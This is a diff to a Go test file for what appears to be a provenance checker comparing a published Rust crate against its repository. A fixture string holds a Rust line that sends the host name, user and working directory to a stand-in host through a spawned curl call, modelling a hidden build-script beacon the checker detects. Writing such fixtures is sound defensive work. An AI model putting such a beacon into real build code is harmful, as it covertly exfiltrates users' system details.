@@ -214,7 +214,8 @@ func compared(f *fake) {
 				"+        let url = \"https://collector.example/beacon?host=\".to_string() + &hostname() + \"&user=\" + &whoami() + \"&cwd=\" + &cwd();\n+        std::process::Command::new(\"curl\").arg(url).spawn();\n     }\n }\n"},
 			{Path: "build.rs", Kind: provenance.Unknown, Source: true},
 		},
-		Missing: []string{"tests/load.rs"},
+		Submodules: []checks.ProvenanceSubmodule{{Path: "vendor/lz", Commit: "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"}},
+		Missing:    []string{"tests/load.rs"},
 		Settings: []checks.ProvenanceSetting{
 			{Path: "dependencies.hex.version", Origin: "\"0.4\"", Published: "\"*\"", From: "repository", Class: "build", Text: "The requirement on `hex` is wider than the repository's"},
 			{Path: "package.build", Published: "\"build.rs\"", From: "repository", Class: "build", Text: "A build script that the repository's manifest does not name"},
